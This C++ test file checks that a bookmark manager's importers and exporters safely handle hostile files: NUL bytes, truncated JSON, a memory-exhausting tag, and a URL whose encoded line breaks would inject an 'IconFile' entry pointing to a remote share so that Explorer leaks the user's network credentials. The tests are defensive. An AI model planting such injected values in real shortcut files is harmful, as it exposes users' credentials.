// Bookmark files as someone might send them to do harm, run through each reader an import
// uses (and its cleaning of locations) and each writer an export or a drag uses: no
// crash, no hang, no control character inside a written value, nothing stored from a
// file that could not be read whole.
#include "dnd/FavorDragData.h"
#include "edits/FavorEdits.h"
#include "logic/transfer/TransferTestFiles.h"
#include "logic/transfer/TreeBuilder.h"
#include "store/CFavorStore.h"
#include "transfer/BookmarkHtmlReader.h"
#include "transfer/CFavorTransfer.h"
#include "transfer/ChromiumBookmarks.h"
#include "transfer/FileBytes.h"
#include "transfer/ImportedItems.h"
#include "transfer/ShortcutFile.h"
#include <gtest/gtest.h>
#include <psapi.h>
#include <cstring>

namespace {

// Taken as they stand, these locations end the URL line of a shortcut file and add an
// icon on someone's share, which Explorer fetches with the user's network credentials.
const std::string kIconRef = "https://bank.example/&#13;&#10;IconFile=\\\\203.0.113.5\\s\\i.ico&#13;&#10;IconIndex=0";
const std::string kIconJson = R"(https://bank.example/\r\nIconFile=\\\\203.0.113.5\\s\\i.ico)";

struct HostileFile {
    const char* name;
    std::string bytes;
    bool json;
    bool whole;           // read at all: a file cut short is refused when it is JSON
    const wchar_t* tree;  // what the import takes (TreeBuilder's Describe), or null: looked at below
    int leftOut;
};

std::vector<HostileFile> Corpus() {
    const std::string doctype = "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n";
    const std::string nul(1, '\0');
    const std::string json = R"({"roots": {"bookmark_bar": {"name": "Bar", "type": "folder", "children": [)"
                             R"({"type": "url", "name": "Bank", "url": ")" + kIconJson + R"("},)"
                             R"({"type": "url", "name": "Nul", "url": "https://nul.example/\u0000x"},)"
                             R"({"type": "url", "name": "Na\u0000me", "url": "https://name.example/"}]}}})";
    return {
        {"icon.html",
         doctype + "<DT><A HREF=\"" + kIconRef + "\">Bank</A>\n<DT><A HREF=\"https://raw.example/\r\n\tx\">Raw</A>\n" +
             "<DT><A HREF=\"https://nul.example/" + nul + "x\">Nul</A>\n</DL><p>\n",
         false, true, L"{Bank=https://bank.example/IconFile=\\\\203.0.113.5\\s\\i.icoIconIndex=0;Raw=https://raw.example/x;}",
         1},
        {"cut.html", doctype + "<DT><A HREF=\"https://cut.example/", false, true, L"{=https://cut.example/;}", 0},
        {"icon.json", json, true, true, nullptr, 1},
        {"cut.json", json.substr(0, json.size() / 2), true, false, nullptr, 0},
    };
}

// Every line of a written file ends in CR LF and holds no other control character, and
// no line adds an icon.
void ExpectPlainLines(const std::string& bytes, const std::string& what) {
    size_t at = 0;
    while (at < bytes.size()) {
        const size_t end = bytes.find("\r\n", at);
        ASSERT_NE(end, std::string::npos) << what;
        const std::string line = bytes.substr(at, end - at);
        for (const char c : line) EXPECT_FALSE(static_cast<unsigned char>(c) < 0x20 || c == 0x7F) << what << ": " << line;
        EXPECT_NE(line.rfind("IconFile", 0), 0u) << what;
        at = end + 2;
    }
}

// Each writer, with whatever locations the tree holds.
void ExpectPlainWrites(const FolderRecord& tree, const std::string& what) {
    ScratchFolder out;
    CFavorTransfer transfer;
    transfer.ExportToFolder({}, out.Path(), tree);
    for (const FavorRecord& f : tree.favors)  // named as both writers name it
        ExpectPlainLines(ReadBytes(out / DragFileName(f.name)), what + " folder export");
    ASSERT_TRUE(transfer.ExportToHtml({}, out / L"out.html", tree));
    ExpectPlainLines(ReadBytes(out / L"out.html"), what + " html export");
    std::vector<const FavorRecord*> favors;
    for (const FavorRecord& f : tree.favors) favors.push_back(&f);
    ExpectPlainLines(BuildFavorDragData(favors).contents, what + " drag of all");
}

}  // namespace

TEST(HostileFiles, EveryReaderCleansOrRefusesAndNoWriterBreaksALine) {
    ScratchFolder dir;
    for (const HostileFile& f : Corpus()) {
        SCOPED_TRACE(f.name);
        const std::wstring path = dir / std::wstring(f.name, f.name + std::strlen(f.name));
        ASSERT_TRUE(WriteBytes(path, f.bytes));
        OwnedTree tree;
        int count = 0;
        ReadNotes notes;
        const bool read = f.json ? ReadChromiumBookmarks(path, tree.root, count, notes)
                                 : ReadBookmarkHtmlFile(path, tree.root, count, notes);
        ASSERT_EQ(read, f.whole);
        if (!read) continue;
        notes.leftOut += CleanImportedLocations(tree.root);  // as the import does next
        EXPECT_EQ(notes.leftOut, f.leftOut);
        const FolderRecord& shown = f.json ? *tree.root.subfolders.at(0) : tree.root;
        if (f.tree) {
            EXPECT_EQ(Describe(shown), f.tree);
        }
        if (f.json) {
            ASSERT_EQ(shown.favors.size(), 2u);
            EXPECT_EQ(shown.favors[0].location, L"https://bank.example/IconFile=\\\\203.0.113.5\\s\\i.ico");
            EXPECT_EQ(shown.favors[1].name, std::wstring(L"Na\0me", 5));  // a NUL in a name is kept whole
        }
        ExpectPlainWrites(shown, f.name);
    }

    // Whatever the store holds (written before its locations were cleaned, or by another
    // program), the writers put no line break into a value.
    OwnedTree stored;
    AddFav(stored.root, L"Bank", L"https://bank.example/\r\nIconFile=\\\\203.0.113.5\\s\\i.ico\r\nIconIndex=0");
    AddFav(stored.root, L"Bell", L"https://bell.example/\x07\x7F");
    ExpectPlainWrites(stored.root, "stored");
    EXPECT_EQ(ShortcutFileContents(stored.root.favors[1].location),
              "[InternetShortcut]\r\nURL = https://bell.example/%07%7F\r\n");
}

TEST(HostileFiles, ANulIsStoredWholeAndAnImportWithoutItsBatchStoresNothing) {
    CFavorStore store;
    ASSERT_TRUE(store.Open(L":memory:"));
    FavorEdits edits(store);
    const std::wstring name(L"Na\0me", 5);
    OwnedTree tree;
    AddFav(tree.root, name, L"https://name.example/");
    EditStep stored;
    ASSERT_TRUE(edits.StoreImport(tree.root, L"Favorites From HTML", {}, stored));
    std::vector<FavorRecord> loaded;
    ASSERT_TRUE(store.LoadFavors(tree.root.id, loaded));
    ASSERT_EQ(loaded.size(), 1u);
    EXPECT_EQ(loaded[0].name, name);  // bound and read with its length, not cut at the NUL

    // A batch that cannot begin (one is open already) stores nothing of the import.
    CFavorStore::Batch open(store);
    ASSERT_TRUE(open.Active());
    EXPECT_FALSE(edits.StoreImport(tree.root, L"Favorites From HTML", {}, stored));
    ASSERT_TRUE(open.Commit());
    FolderRecord root;
    ASSERT_TRUE(store.LoadFolderTree(root));
    EXPECT_EQ(root.subfolders.size(), 1u);
}

TEST(HostileFiles, AReadErrorMidFileIsAnErrorNotItsEnd) {
    std::string bytes(3u << 20, 'x');
    int calls = 0;
    EXPECT_FALSE(ReadChunks(bytes, [&](char*, DWORD want, DWORD& got) {
        got = want;
        return ++calls < 2;  // the share drops out after the first chunk
    }));
    calls = 0;
    EXPECT_TRUE(ReadChunks(bytes, [&](char*, DWORD want, DWORD& got) {
        got = ++calls < 2 ? want : 0;  // cut short meanwhile: what it held
        return true;
    }));
    EXPECT_EQ(bytes.size(), 1u << 20);
    std::string none;
    std::wstring why;
    EXPECT_FALSE(ReadFileBytes(L"C:\\no such folder\\Bookmarks", none, why));
    EXPECT_FALSE(why.empty());
}

// A tag with a hundred million attributes, generated here and deleted after: the reader
// keeps a few of them, so the import needs little more memory than the file itself.
TEST(HostileFiles, AHugeTagNeedsLittleMoreThanTheFile) {
    constexpr size_t kSize = 200u << 20;
    ScratchFolder dir;
    const std::wstring path = dir / L"huge.html";
    {
        HANDLE h = CreateFileW(path.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr);
        ASSERT_NE(h, INVALID_HANDLE_VALUE);
        const std::string head = "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><DT><A HREF=\"http://a.example/\"";
        std::string chunk;
        for (size_t i = 0; i < (1u << 19); ++i) chunk += " x";
        DWORD put = 0;
        WriteFile(h, head.data(), static_cast<DWORD>(head.size()), &put, nullptr);
        for (size_t done = 0; done < kSize; done += chunk.size())
            ASSERT_TRUE(WriteFile(h, chunk.data(), static_cast<DWORD>(chunk.size()), &put, nullptr));
        WriteFile(h, ">A</A></DL>", 11, &put, nullptr);
        CloseHandle(h);
    }
    PROCESS_MEMORY_COUNTERS before{};
    ASSERT_TRUE(GetProcessMemoryInfo(GetCurrentProcess(), &before, sizeof before));
    OwnedTree tree;
    int count = 0;
    ReadNotes notes;
    ASSERT_TRUE(ReadBookmarkHtmlFile(path, tree.root, count, notes));
    EXPECT_EQ(Describe(tree.root), L"{A=http://a.example/;}");
    PROCESS_MEMORY_COUNTERS after{};
    ASSERT_TRUE(GetProcessMemoryInfo(GetCurrentProcess(), &after, sizeof after));
    EXPECT_LT(after.PeakWorkingSetSize, before.WorkingSetSize + 3 * kSize);
}
